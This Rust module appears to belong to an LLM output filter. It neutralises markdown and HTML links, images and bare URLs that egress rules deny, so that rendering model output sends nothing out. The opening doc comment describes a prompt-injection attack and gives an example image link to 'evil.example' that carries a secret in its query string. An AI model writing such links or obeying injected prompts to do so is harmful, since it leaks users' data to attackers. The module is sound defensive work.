//! Neutralising links and images in model output, so that rendering the answer fetches nothing and
//! offers nothing to click outside the egress rules (the "markdown image exfiltration" attack: an
//! injected prompt makes the model write `![](https://evil.example/?q=<secret>)` and the client's
//! renderer fetches it).
//!
//! What is rewritten, when its URL is denied by [`EgressRules`](super::EgressRules) or carries a
//! query longer than `max_query_len`:
//!
//! | construct | becomes |
//! |---|---|
//! | image `![alt](url)` | `[image removed by policy]` |
//! | link `[text](url)` | `text [link removed by policy]` (the text is kept, and checked too) |
//! | reference definition `[ref]: url` | `[link removed by policy]` (so `[x][ref]` and `![x][ref]` render as plain text) |
//! | autolink `<https://…>` | `[link removed by policy]` |
//! | raw HTML tag with a URL attribute (`<img src>`, `<a href>`, `srcset`, `style="…url(…)"`…) | the placeholder for its kind |
//! | bare URL a renderer would linkify (`https://…`, `www.…`) | `[link removed by policy]` |
//!
//! Relative references (`/docs`, `#top`, `page.html`) stay on the page's origin and pass; `//host`
//! does not. Destinations are decoded as a renderer decodes them (backslash escapes, entities such
//! as `&colon;` and `&#47;`) before they are checked; an unknown named entity is refused.
//!
//! Code is left alone: inline code spans and fenced code blocks opened at the start of a line are
//! shown literally by every renderer, and rewriting them would corrupt code the user asked for.
//! Everything else errs towards rewriting: an HTML tag is checked with a browser's lenient
//! tokenizer even where markdown would print it as text, and a `](url)` whose `[` could not be
//! matched is still checked.

use std::borrow::Cow;
use std::ops::Range;

use memchr::{memchr, memchr2};

use super::{find_urls, DenyReason, EgressRules, Verdict};
use crate::inspect::needle::Needle;

/// What replaces a removed image (or other embedded content).
pub const IMAGE_REMOVED: &str = "[image removed by policy]";
/// What replaces a removed link.
pub const LINK_REMOVED: &str = "[link removed by policy]";
const LINK_REMOVED_AFTER_TEXT: &str = " [link removed by policy]";

/// The longest link text looked at when matching brackets, and the deepest nesting: past either,
/// the `](url)` is checked alone (see [`Walker::flush`]). Bounds keep hostile input linear-ish.
const MAX_LABEL: usize = 1024;
const MAX_DEPTH: usize = 32;
/// The longest link destination parsed as one (a longer one is checked as a bare `](url)`).
const MAX_DEST: usize = 4096;
/// The longest HTML tag looked at (a longer one is checked on what was seen and removed up to there).
const MAX_TAG: usize = 2048;

/// Which construct was rewritten.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LinkKind {
    /// `![alt](url)`.
    Image,
    /// `[text](url)`, or a `](url)` without its `[`.
    Link,
    /// `[ref]: url`.
    Reference,
    /// `<scheme:…>`.
    Autolink,
    /// A raw HTML tag.
    Html,
    /// A bare URL.
    Bare,
}

/// One rewrite: what, why, and where in the original text. The URL itself is not kept: it may
/// carry the data it tried to smuggle out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Neutralized {
    /// The construct.
    pub kind: LinkKind,
    /// Why it was removed.
    pub reason: DenyReason,
    /// Byte range of the construct in the original text.
    pub span: Range<usize>,
}

static SCHEME: Needle = Needle::new(b"://");
static WWW: Needle = Needle::new(b"www.");
static WWW_UPPER: Needle = Needle::new(b"WWW.");
static BLANK_LINE: Needle = Needle::new(b"\n\n");
static LINK_OPEN: Needle = Needle::new(b"](");

/// Whether `b` may hold a bare URL (`://`, `www.` or `WWW.`).
fn may_hold_url(b: &[u8]) -> bool {
    SCHEME.is_in(b) || WWW.is_in(b) || WWW_UPPER.is_in(b)
}

pub(super) fn neutralize(
    rules: &EgressRules,
    text: &str,
    extra: &dyn Fn(&str) -> bool,
) -> Option<(String, Vec<Neutralized>)> {
    let b = text.as_bytes();
    // The clean path: no `]`, `<`, `://` or `www.`, no link.
    if memchr2(b']', b'<', b).is_none() && !may_hold_url(b) {
        return None;
    }
    let mut w = Walker { rules, extra, text, b, edits: Vec::new(), found: Vec::new(), code_cache: [None; 16] };
    w.inline(0, b.len(), true);
    if w.edits.is_empty() {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    for (r, rep) in &w.edits {
        out.push_str(&text[last..r.start]);
        out.push_str(rep);
        last = r.end;
    }
    out.push_str(&text[last..]);
    Some((out, w.found))
}

struct Walker<'a> {
    rules: &'a EgressRules,
    extra: &'a dyn Fn(&str) -> bool,
    text: &'a str,
    b: &'a [u8],
    /// Replacements, in order, not overlapping.
    edits: Vec<(Range<usize>, &'static str)>,
    found: Vec<Neutralized>,
    /// Per backtick-run length: (searched from, first closing run at or after it).
    code_cache: [Option<(usize, Option<usize>)>; 16],
}

/// A link destination: where it is, and where the construct ends.
struct Dest {
    url: Range<usize>,
    end: usize,
}

impl Walker<'_> {
    /// Walk `start..end`; `top` for the whole document (where lines can open fences and hold
    /// reference definitions), not for link text.
    fn inline(&mut self, start: usize, end: usize, top: bool) {
        let b = self.b;
        let mut i = start;
        let mut seg = start;
        let mut html_block_until = 0;
        while i < end {
            if top && (i == 0 || b[i - 1] == b'\n') {
                let indent = b[i..end].iter().take_while(|&&c| c == b' ').count();
                if indent <= 3 && b.get(i + indent) == Some(&b'<') && i >= html_block_until {
                    // An HTML block runs to the next blank line; fences inside it are raw text.
                    html_block_until = BLANK_LINE.find(&b[i..end]).map_or(end, |k| i + k);
                }
                if i >= html_block_until {
                    if let Some(fence_end) = self.fence(i, end) {
                        self.flush(seg, i);
                        i = fence_end;
                        seg = i;
                        continue;
                    }
                }
            }
            match b[i] {
                b'\\' => i += if b.get(i + 1).is_some_and(u8::is_ascii_punctuation) { 2 } else { 1 },
                b'`' if top && i < html_block_until => i += run(b, i, b'`'), // raw HTML: no code spans
                b'`' => {
                    let n = run(b, i, b'`');
                    match self.code_close(i + n, n) {
                        Some(c) if c + n <= end && inline_code_ok(&b[i + n..c]) => {
                            self.flush(seg, i);
                            i = c + n;
                            seg = i;
                        }
                        _ => i += n,
                    }
                }
                b'!' if b.get(i + 1) == Some(&b'[') => match self.inline_link(i + 1, end) {
                    Some((_, dest)) => {
                        self.flush(seg, i);
                        if let Some(reason) = self.deny(dest.url.clone(), true) {
                            self.edit(i..dest.end, IMAGE_REMOVED, LinkKind::Image, reason);
                        }
                        i = dest.end;
                        seg = i;
                    }
                    None => i += 1,
                },
                b'[' => {
                    // A denied definition goes whole; an allowed one is walked into like text (it
                    // may be a paragraph line that merely looks like a definition).
                    let definition =
                        if top && self.line_prefix_ok(i) { self.reference_definition(i, end) } else { None };
                    if let Some((span, url)) = definition {
                        if let Some(reason) = self.deny(url, true) {
                            self.flush(seg, i);
                            self.edit(span.clone(), LINK_REMOVED, LinkKind::Reference, reason);
                            i = span.end;
                            seg = i;
                            continue;
                        }
                    }
                    match self.inline_link(i, end) {
                        Some((close, dest)) => {
                            self.flush(seg, i);
                            match self.deny(dest.url.clone(), true) {
                                Some(reason) => {
                                    let at = self.found.len();
                                    self.edits.push((i..i + 1, ""));
                                    self.inline(i + 1, close, false);
                                    self.edits.push((close..dest.end, LINK_REMOVED_AFTER_TEXT));
                                    let n = Neutralized { kind: LinkKind::Link, reason, span: i..dest.end };
                                    self.found.insert(at, n);
                                }
                                None => self.inline(i + 1, close, false),
                            }
                            i = dest.end;
                            seg = i;
                        }
                        None => i += 1,
                    }
                }
                b'<' => {
                    if let Some((span, url)) = self.autolink(i, end) {
                        self.flush(seg, i);
                        if let Some(reason) = self.deny(url, false) {
                            self.edit(span.clone(), LINK_REMOVED, LinkKind::Autolink, reason);
                        }
                        i = span.end;
                        seg = i;
                    } else if let Some((span, reason, image)) = self.html_tag(i, end) {
                        // Only a denied tag is consumed; an allowed one is walked into like text.
                        self.flush(seg, i);
                        let rep = if image { IMAGE_REMOVED } else { LINK_REMOVED };
                        self.edit(span.clone(), rep, LinkKind::Html, reason);
                        i = span.end;
                        seg = i;
                    } else {
                        i += 1;
                    }
                }
                _ => i += 1,
            }
        }
        self.flush(seg, end.max(seg));
    }

    fn edit(&mut self, span: Range<usize>, rep: &'static str, kind: LinkKind, reason: DenyReason) {
        self.edits.push((span.clone(), rep));
        self.found.push(Neutralized { kind, reason, span });
    }

    /// Why the URL at `r` must go, if it must. `markdown`: decode backslash escapes too.
    fn deny(&self, r: Range<usize>, markdown: bool) -> Option<DenyReason> {
        let raw = &self.text[r];
        let url = match decode(raw, markdown) {
            Ok(u) => u,
            Err(e) => return Some(DenyReason::Unparseable(e)),
        };
        match self.rules.check_link(&url, self.extra) {
            Verdict::Allow => None,
            Verdict::Deny(reason) => Some(reason),
        }
    }

    /// Plain text between constructs: a `](url)` whose `[` was not matched (too long, too deep, or
    /// a destination too long to parse), and bare URLs.
    ///
    /// For `](`, only a URL that leaves the page can be denied, so the check runs only where one
    /// starts (a scheme or `//`), on the text up to the next space, `)` or `>`, bounded.
    fn flush(&mut self, start: usize, end: usize) {
        if start >= end {
            return;
        }
        let b = self.b;
        let seg = &b[start..end];
        let mut pending: Vec<(Range<usize>, &'static str, LinkKind, DenyReason)> = Vec::new();
        let mut covered = start;
        for k in LINK_OPEN.find_iter(seg) {
            let mut s = skip_ws(&b[..end], start + k + 2);
            if s < covered {
                continue;
            }
            if b.get(s) == Some(&b'<') {
                s += 1;
            }
            let head = &b[s..end.min(s + 40)];
            let scheme_len = head.iter().take_while(|c| c.is_ascii_alphanumeric() || b"+.-".contains(c)).count();
            let scheme = head.first().is_some_and(u8::is_ascii_alphabetic) && head.get(scheme_len) == Some(&b':');
            let slashes = head.iter().take_while(|c| matches!(c, b'/' | b'\\')).count() >= 2;
            if !scheme && !slashes {
                continue;
            }
            let limit = end.min(s + MAX_DEST);
            let e = b[s..limit].iter().position(|&c| c <= b' ' || c == b')' || c == b'>').map_or(limit, |x| s + x);
            if let Some(reason) = self.deny(s..e, true) {
                pending.push((s..e, LINK_REMOVED, LinkKind::Link, reason));
                covered = e;
            }
        }
        if may_hold_url(seg) {
            for r in find_urls(&self.text[start..end]) {
                let url = &self.text[start + r.start..start + r.end];
                let verdict = if url.get(..4).is_some_and(|p| p.eq_ignore_ascii_case("www.")) {
                    self.rules.check_link(&format!("https://{url}"), self.extra)
                } else if url.contains(':') && !url.as_bytes()[0].is_ascii_digit() {
                    self.rules.check_link(url, self.extra)
                } else {
                    // A bare `10.0.0.5:6379` is not linkified by renderers.
                    Verdict::Allow
                };
                if let Verdict::Deny(reason) = verdict {
                    pending.push((start + r.start..start + r.end, LINK_REMOVED, LinkKind::Bare, reason));
                }
            }
        }
        pending.sort_by_key(|p| p.0.start);
        let mut last = start;
        for (span, rep, kind, reason) in pending {
            if span.start >= last {
                last = span.end;
                self.edit(span, rep, kind, reason);
            }
        }
    }

    /// A fenced code block opening at `i` (no indentation: an indented fence may belong to a list
    /// item and close with it, which we do not track): its end.
    fn fence(&self, i: usize, end: usize) -> Option<usize> {
        let b = self.b;
        let ch = *b.get(i).filter(|&&c| c == b'`' || c == b'~')?;
        let n = run(b, i, ch);
        let line_end = memchr(b'\n', &b[i..end]).map_or(end, |k| i + k);
        if n < 3 || (ch == b'`' && b[i + n..line_end].contains(&b'`')) {
            return None;
        }
        let mut k = line_end + 1;
        while k < end {
            let le = memchr(b'\n', &b[k..end]).map_or(end, |x| k + x);
            let line = &b[k..le];
            let indent = line.iter().take_while(|&&c| c == b' ').count();
            if indent <= 3
                && run(line, indent, ch) >= n
                && line[indent..].iter().all(|&c| c == ch || c.is_ascii_whitespace())
            {
                return Some(le);
            }
            k = le + 1;
        }
        Some(end)
    }

    /// The start of the first backtick run of exactly `n` at or after `from`.
    fn code_close(&mut self, from: usize, n: usize) -> Option<usize> {
        if let Some(Some((f, res))) = self.code_cache.get(n) {
            if *f <= from && res.is_none_or(|c| c >= from) {
                return *res;
            }
        }
        let b = self.b;
        let mut j = from;
        let mut res = None;
        while let Some(k) = memchr(b'`', &b[j.min(b.len())..]) {
            let s = j + k;
            let len = run(b, s, b'`');
            if len == n {
                res = Some(s);
                break;
            }
            j = s + len;
        }
        if let Some(slot) = self.code_cache.get_mut(n) {
            *slot = Some((from, res));
        }
        res
    }

    /// The `]` matching the `[` at `open`, skipping escapes and code spans.
    fn bracket_close(&mut self, open: usize, end: usize) -> Option<usize> {
        let b = self.b;
        let limit = end.min(open + MAX_LABEL);
        let mut depth = 0usize;
        let mut j = open + 1;
        while j < limit {
            match b[j] {
                b'\\' => j += 1,
                b'`' => {
                    let n = run(b, j, b'`');
                    match self.code_close(j + n, n) {
                        Some(c) if c + n <= limit => j = c + n - 1,
                        _ => j += n - 1,
                    }
                }
                b'[' if depth == MAX_DEPTH => return None,
                b'[' => depth += 1,
                b']' if depth == 0 => return Some(j),
                b']' => depth -= 1,
                _ => {}
            }
            j += 1;
        }
        None
    }

    /// `[text](dest "title")` with `[` at `open`: the `]` and the destination.
    fn inline_link(&mut self, open: usize, end: usize) -> Option<(usize, Dest)> {
        let close = self.bracket_close(open, end)?;
        if self.b.get(close + 1) != Some(&b'(') {
            return None;
        }
        let dest = self.destination(close + 1, end)?;
        Some((close, dest))
    }

    /// `(dest "title")` with `(` at `paren`.
    fn destination(&self, paren: usize, end: usize) -> Option<Dest> {
        let b = &self.b[..end.min(paren + MAX_DEST)];
        let mut j = skip_ws(b, paren + 1);
        let url = if b.get(j) == Some(&b'<') {
            let s = j + 1;
            let mut k = s;
            loop {
                match *b.get(k)? {
                    b'>' => break,
                    b'\n' | b'<' => return None,
                    b'\\' => k += 2,
                    _ => k += 1,
                }
            }
            j = k + 1;
            s..k
        } else {
            let s = j;
            let mut depth = 0usize;
            while let Some(&c) = b.get(j) {
                match c {
                    b'\\' if b.get(j + 1).is_some_and(u8::is_ascii_punctuation) => j += 1,
                    c if c <= b' ' => break,
                    b'(' => depth += 1,
                    b')' if depth == 0 => break,
                    b')' => depth -= 1,
                    _ => {}
                }
                j += 1;
            }
            if depth != 0 {
                return None;
            }
            s..j
        };
        let mut j = skip_ws(b, j);
        if let Some(&q) = b.get(j).filter(|&&c| matches!(c, b'"' | b'\'' | b'(')) {
            if j == url.end {
                return None; // a title needs whitespace before it
            }
            let closer = if q == b'(' { b')' } else { q };
            let mut k = j + 1;
            while *b.get(k)? != closer {
                k += if b[k] == b'\\' { 2 } else { 1 };
            }
            j = skip_ws(b, k + 1);
        }
        (b.get(j) == Some(&b')')).then_some(Dest { url, end: j + 1 })
    }

    /// Whether the line before `i` holds only indentation, quote markers and list markers.
    fn line_prefix_ok(&self, i: usize) -> bool {
        self.b[..i].iter().rev().take_while(|&&c| c != b'\n').all(|c| b" \t>-*+0123456789.)".contains(c))
    }

    /// `[label]: dest …` with `[` at `open`: the span to the end of the destination's line, and
    /// the destination.
    fn reference_definition(&self, open: usize, end: usize) -> Option<(Range<usize>, Range<usize>)> {
        let b = &self.b[..end];
        let mut k = open + 1;
        let limit = end.min(open + 1000);
        loop {
            match *b.get(k).filter(|_| k < limit)? {
                b']' => break,
                b'[' => return None,
                b'\\' => k += 2,
                _ => k += 1,
            }
        }
        if k == open + 1 || b.get(k + 1) != Some(&b':') {
            return None;
        }
        let j = skip_ws(b, k + 2);
        let url = if b.get(j) == Some(&b'<') {
            let close = j + 1 + memchr(b'>', &b[j + 1..])?;
            if b[j + 1..close].contains(&b'\n') {
                return None;
            }
            j + 1..close
        } else {
            let e = b[j..].iter().position(|&c| c <= b' ').map_or(b.len(), |x| j + x);
            if e == j {
                return None;
            }
            j..e
        };
        let line_end = memchr(b'\n', &b[url.end..]).map_or(b.len(), |x| url.end + x);
        Some((open..line_end, url))
    }

    /// `<scheme:…>` at `lt`.
    fn autolink(&self, lt: usize, end: usize) -> Option<(Range<usize>, Range<usize>)> {
        let b = &self.b[..end];
        let s = lt + 1;
        let scheme_len = b[s..].iter().take_while(|c| c.is_ascii_alphanumeric() || b"+.-".contains(c)).count();
        if !(2..=32).contains(&scheme_len) || !b[s].is_ascii_alphabetic() || b.get(s + scheme_len) != Some(&b':') {
            return None;
        }
        let mut k = s + scheme_len + 1;
        loop {
            match *b.get(k)? {
                b'>' => return Some((lt..k + 1, s..k)),
                c if c <= b' ' || c == b'<' => return None,
                _ => k += 1,
            }
        }
    }

    /// An HTML start tag at `lt`, tokenised as a browser would: its span, why it must go, and
    /// whether it embeds content (image placeholder) or links (link placeholder). `None` if it is
    /// not a tag or every URL in it is allowed.
    fn html_tag(&self, lt: usize, end: usize) -> Option<(Range<usize>, DenyReason, bool)> {
        let b = &self.b[..end.min(lt + MAX_TAG)];
        if !b.get(lt + 1)?.is_ascii_alphabetic() {
            return None;
        }
        let is_sep = |c: u8| c.is_ascii_whitespace() || c == b'/' || c == b'>';
        let name_end = b[lt + 1..].iter().position(|&c| is_sep(c)).map_or(b.len(), |x| lt + 1 + x);
        let name = &self.b[lt + 1..name_end];
        let image =
            !["a", "area", "form", "button", "base", "meta"].iter().any(|t| name.eq_ignore_ascii_case(t.as_bytes()));
        let mut j = name_end;
        let mut denied = None;
        loop {
            while b.get(j).is_some_and(|&c| c.is_ascii_whitespace() || c == b'/') {
                j += 1;
            }
            match b.get(j) {
                None => break,
                Some(b'>') => {
                    j += 1;
                    break;
                }
                Some(_) => {}
            }
            let an = j;
            j += 1; // the first character may be `=`
            while b.get(j).is_some_and(|&c| !is_sep(c) && c != b'=') {
                j += 1;
            }
            let attr = &self.b[an..j];
            let mut k = j;
            while b.get(k).is_some_and(u8::is_ascii_whitespace) {
                k += 1;
            }
            if b.get(k) != Some(&b'=') {
                continue;
            }
            k += 1;
            while b.get(k).is_some_and(u8::is_ascii_whitespace) {
                k += 1;
            }
            let value = match b.get(k) {
                Some(&q @ (b'"' | b'\'')) => {
                    let e = memchr(q, &b[k + 1..]).map_or(b.len(), |x| k + 1 + x);
                    j = (e + 1).min(b.len());
                    k + 1..e
                }
                _ => {
                    let e =
                        b[k..].iter().position(|&c| c.is_ascii_whitespace() || c == b'>').map_or(b.len(), |x| k + x);
                    j = e;
                    k..e
                }
            };
            if denied.is_none() {
                denied = self.check_attr(attr, value);
            }
        }
        denied.map(|r| (lt..j, r, image))
    }

    /// The URLs of one attribute value (entity-decoded), checked.
    fn check_attr(&self, attr: &[u8], value: Range<usize>) -> Option<DenyReason> {
        if attr.len() > 12 {
            return None;
        }
        let mut buf = [0u8; 12];
        buf[..attr.len()].copy_from_slice(attr);
        buf.make_ascii_lowercase();
        let attr = std::str::from_utf8(&buf[..attr.len()]).unwrap_or("");
        const SINGLE: [&str; 16] = [
            "href",
            "src",
            "lowsrc",
            "dynsrc",
            "poster",
            "background",
            "action",
            "formaction",
            "data",
            "codebase",
            "cite",
            "longdesc",
            "xlink:href",
            "manifest",
            "icon",
            "profile",
        ];
        let is_list = matches!(attr, "srcset" | "imagesrcset" | "ping" | "archive");
        if !SINGLE.contains(&attr) && !is_list && attr != "style" && attr != "content" {
            return None;
        }
        let decoded = match decode(&self.text[value], false) {
            Ok(v) => v,
            Err(e) => return Some(DenyReason::Unparseable(e)),
        };
        let check = |u: &str| match self.rules.check_link(u, self.extra) {
            Verdict::Allow => None,
            Verdict::Deny(r) => Some(r),
        };
        match attr {
            "srcset" | "imagesrcset" => decoded.split(',').find_map(|c| c.split_whitespace().next().and_then(check)),
            "ping" | "archive" => decoded.split_whitespace().find_map(check),
            "style" => css_urls(&decoded).into_iter().find_map(check),
            "content" => {
                let lower = decoded.to_ascii_lowercase();
                let at = lower.find("url=")?;
                check(decoded[at + 4..].trim().trim_matches(['"', '\'']))
            }
            _ => check(&decoded),
        }
    }
}

/// URLs in a `style` value: `url(…)` arguments and quoted strings (`image-set("…" 1x)`).
fn css_urls(style: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let lower = style.to_ascii_lowercase();
    for (at, _) in lower.match_indices("url(") {
        let rest = &style[at + 4..];
        let inner = rest.split(')').next().unwrap_or(rest);
        out.push(inner.trim().trim_matches(['"', '\'']));
    }
    let mut rest = style;
    while let Some(s) = rest.find(['"', '\'']) {
        let q = &rest[s..s + 1];
        let after = &rest[s + 1..];
        let e = after.find(q).unwrap_or(after.len());
        out.push(&after[..e]);
        rest = after.get(e + 1..).unwrap_or("");
    }
    out
}

/// Whether the content of a would-be code span can be one: a code span lives in one paragraph, so
/// it holds no blank line and no line that could open another block (a list item, a quote, a
/// fence, a heading). Otherwise the backticks are taken literally and what follows is checked:
/// the walker does not track list items, and this keeps it from hiding a link behind a "code span"
/// that a renderer splits across two items.
fn inline_code_ok(content: &[u8]) -> bool {
    content.split(|&c| c == b'\n').skip(1).all(|line| {
        let t = line.iter().position(|c| !matches!(c, b' ' | b'\t' | b'\r')).map(|k| &line[k..]);
        match t {
            None => false, // a blank line ends the paragraph
            Some(t) => !matches!(t[0], b'-' | b'*' | b'+' | b'>' | b'#' | b'`' | b'~' | b'0'..=b'9' | b'<'),
        }
    })
}

fn run(b: &[u8], i: usize, ch: u8) -> usize {
    b.get(i..).map_or(0, |s| s.iter().take_while(|&&c| c == ch).count())
}

/// Skip spaces and tabs and at most one line ending.
fn skip_ws(b: &[u8], mut j: usize) -> usize {
    let mut newline = false;
    while let Some(&c) = b.get(j) {
        match c {
            b' ' | b'\t' => {}
            b'\n' if !newline => newline = true,
            b'\r' => {}
            _ => break,
        }
        j += 1;
    }
    j
}

/// Decode what a renderer decodes in a destination: character references, and (in markdown)
/// backslash escapes of ASCII punctuation. An unknown named reference is an error.
fn decode(s: &str, markdown: bool) -> Result<Cow<'_, str>, &'static str> {
    if !(s.contains('&') || markdown && s.contains('\\')) {
        return Ok(Cow::Borrowed(s));
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find(['&', '\\']) {
        out.push_str(&rest[..i]);
        let tail = &rest[i..];
        if let Some(after) = tail.strip_prefix('\\') {
            match after.chars().next() {
                Some(c) if markdown && c.is_ascii_punctuation() => {
                    out.push(c);
                    rest = &after[1..];
                }
                _ => {
                    out.push('\\');
                    rest = after;
                }
            }
            continue;
        }
        let (c, used) = char_ref(tail)?;
        match c {
            Some(c) => out.push(c),
            None => out.push('&'),
        }
        rest = &tail[used..];
    }
    out.push_str(rest);
    Ok(Cow::Owned(out))
}

/// A character reference at the start of `s` (which starts with `&`): the character (`None`:
/// a literal `&`) and the bytes used.
fn char_ref(s: &str) -> Result<(Option<char>, usize), &'static str> {
    let b = s.as_bytes();
    if b.get(1) == Some(&b'#') {
        let hex = matches!(b.get(2), Some(b'x' | b'X'));
        let start = if hex { 3 } else { 2 };
        let digits = b[start.min(b.len())..]
            .iter()
            .take_while(|c| if hex { c.is_ascii_hexdigit() } else { c.is_ascii_digit() })
            .count();
        if digits == 0 {
            return Ok((None, 1));
        }
        let num = &s[start..start + digits];
        let v = u32::from_str_radix(num, if hex { 16 } else { 10 }).unwrap_or(0xFFFD);
        let c = char::from_u32(v).filter(|&c| c != '\0').unwrap_or('\u{FFFD}');
        let semi = usize::from(b.get(start + digits) == Some(&b';'));
        return Ok((Some(c), start + digits + semi));
    }
    let name_len = b[1..].iter().take_while(|c| c.is_ascii_alphanumeric()).count();
    if name_len == 0 || b.get(1 + name_len) != Some(&b';') {
        return Ok((None, 1)); // `&` followed by text: literal
    }
    let c = match &s[1..1 + name_len] {
        "amp" | "AMP" => '&',
        "lt" | "LT" => '<',
        "gt" | "GT" => '>',
        "quot" | "QUOT" => '"',
        "apos" => '\'',
        "colon" => ':',
        "sol" => '/',
        "bsol" => '\\',
        "period" => '.',
        "comma" => ',',
        "num" => '#',
        "quest" => '?',
        "excl" => '!',
        "percnt" => '%',
        "commat" => '@',
        "lpar" => '(',
        "rpar" => ')',
        "lsqb" | "lbrack" => '[',
        "rsqb" | "rbrack" => ']',
        "equals" => '=',
        "plus" => '+',
        "semi" => ';',
        "dollar" => '$',
        "ast" | "midast" => '*',
        "lowbar" | "UnderBar" => '_',
        "verbar" | "vert" | "VerticalLine" => '|',
        "grave" | "DiacriticalGrave" => '`',
        "Hat" => '^',
        "Tab" => '\t',
        "NewLine" => '\n',
        "nbsp" => '\u{a0}',
        _ => return Err("unknown character reference in a URL"),
    };
    Ok((Some(c), name_len + 2))
}

#[cfg(test)]
#[path = "markdown_tests.rs"]
mod tests;
